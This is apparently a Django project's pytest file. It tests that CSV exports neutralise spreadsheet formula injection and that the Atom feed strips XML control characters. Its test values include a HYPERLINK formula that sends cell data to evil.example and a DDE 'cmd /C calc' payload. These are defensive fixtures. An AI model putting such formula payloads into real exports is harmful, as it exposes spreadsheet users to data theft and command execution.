"""Untrusted text in exports and the feed (issue 17): spreadsheet formulas, XML control characters.

CSV cells that a spreadsheet would read as a formula are written with a leading
apostrophe; the Atom feed drops the control characters XML 1.0 cannot carry; no page
answers 500 for a query holding them or for a query that is not valid UTF-8.
"""

from __future__ import annotations

import io
import json
import xml.etree.ElementTree as ET

import pytest
from django.core.management import call_command

from articles.selectors.export_formats import csv_cell, csv_row
from articles.views.feeds import xml_text
from tests.api.helpers import csv_rows, export_text
from tests.factories import ArticleFactory, SourceFactory

ATOM = "{http://www.w3.org/2005/Atom}"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (FORMULA, "'" + FORMULA),
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("'already quoted", "'already quoted"),  # not a formula: left alone
        ("plain title", "plain title"),
        ("a=b, c+d, e-f, g@h", "a=b, c+d, e-f, g@h"),  # only the first character counts
        (" =1+1", " =1+1"),
        ("", ""),
        ("https://example.org/a?b=c", "https://example.org/a?b=c"),
        ("2014-03-01T12:00:00+00:00", "2014-03-01T12:00:00+00:00"),
        (42, 42),  # numbers the code writes (ids) stay numbers
        (-1, -1),
        (None, None),
    ],
)
def test_csv_cell(value, expected):
    assert csv_cell(value) == expected


def test_csv_row_neutralises_text_and_list_cells():
    fields = {
        "id": 7,
        "url": "=cmd|' /C calc'!A0",
        "external_id": "+1+1",
        "title": "-minus",
        "source": "@src",
        "published_at": "2014-03-01T12:00:00+00:00",
        "countries": ["=a", "b"],
        "focus_countries": [],
        "officials": [{"slug": "@x"}, {"slug": "y"}],
        "organizations": ["un"],
        "topics": ["\tt"],
        "lede": "=SUM(A1)",
    }
    assert csv_row(fields) == [
        7,
        "'=cmd|' /C calc'!A0",
        "'+1+1",
        "'-minus",
        "'@src",
        "2014-03-01T12:00:00+00:00",
        "'=a;b",
        "",
        "'@x;y",
        "un",
        "'\tt",
        "'=SUM(A1)",
    ]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("a\x01b\x08c\x0b\x0cd\x0e\x1b\x1fe", "abcde"),
        ("tab\tnewline\ncr\r", "tab\tnewline\ncr\r"),  # XML 1.0 allows these three
        ("nul\x00", "nul"),
        ("\ufffe\uffff", ""),
        ("São Paulo — “quoted”", "São Paulo — “quoted”"),
        ("", ""),
        (None, None),
    ],
)
def test_xml_text(value, expected):
    assert xml_text(value) == expected


@pytest.fixture
def hostile(db):
    source = SourceFactory(slug="hostile", name="Hostile\x01 Source\x1b")
    return ArticleFactory(
        title=FORMULA,
        external_id="+1+1",
        byline="@SUM(1)",
        url="=cmd|' /C calc'!A0",
        source=source,
    )


def test_web_csv_and_command_neutralise_formulas(client, hostile):
    _, web = export_text(client, [], "csv")
    out, err = io.StringIO(), io.StringIO()
    call_command("export_articles", "--format", "csv", stdout=out, stderr=err)
    for text in (web, out.getvalue()):
        (row,) = csv_rows(text)
        assert row["id"] == str(hostile.pk)
        assert row["title"] == "'" + FORMULA
        assert row["external_id"] == "'+1+1"
        assert row["url"] == "'=cmd|' /C calc'!A0"
        # No cell of the file opens with a formula character (the byline is not a column).
        for cell in row.values():
            assert not cell or cell[0] not in "=+-@\t\r", cell
        assert "@SUM(1)" not in text


def test_jsonl_export_is_unchanged(client, hostile):
    _, text = export_text(client, [], "jsonl")
    (row,) = [json.loads(line) for line in text.splitlines()]
    assert row["title"] == FORMULA
    assert row["external_id"] == "+1+1"


def test_feed_with_control_characters_in_articles_is_well_formed(client, db):
    source = SourceFactory(slug="ctl", name="Control\x01 Wire\x1b")
    ArticleFactory(
        title="Bad\x01 title\x08 here\x1b",
        body="Body\x01 with\x08 controls\x1b.",
        byline="By\x01 someone\x08\x1b",
        source=source,
    )
    response = client.get("/articles/feed.atom")
    assert response.status_code == 200
    root = ET.fromstring(response.content)
    (entry,) = root.findall(f"{ATOM}entry")
    assert entry.find(f"{ATOM}title").text == "Bad title here"
    assert entry.find(f"{ATOM}summary").text == "Body with controls."
    assert entry.find(f"{ATOM}author/{ATOM}name").text == "Control Wire"


@pytest.mark.parametrize("q", ["a\x01", "\x1bx\x0b", "a\x00"])
def test_feed_query_with_control_characters(client, db, q):
    response = client.get("/articles/feed.atom", {"q": q})
    assert response.status_code in (200, 400)
    if response.status_code == 200:
        root = ET.fromstring(response.content)
        assert root.find(f"{ATOM}title").text.startswith("Newsroom")


QUERIES = ["q=a%01", "q=%1b%0b", "q=a%00", "q=%ff%fe", "q=%C0%80", "q=%EF%BF%BE", "q=%"]


@pytest.mark.parametrize(
    "path", ["/articles/", "/api/articles/", "/articles/export.csv", "/articles/feed.atom"]
)
@pytest.mark.parametrize("query", QUERIES)
def test_hostile_queries_never_500(client, db, path, query):
    ArticleFactory(title="An article")
    response = client.get(f"{path}?{query}")
    assert response.status_code in (200, 400), (path, query, response.status_code)
    if response.status_code == 200 and path.endswith(".atom"):
        ET.fromstring(response.content)
    if hasattr(response, "streaming_content"):
        b"".join(response.streaming_content)
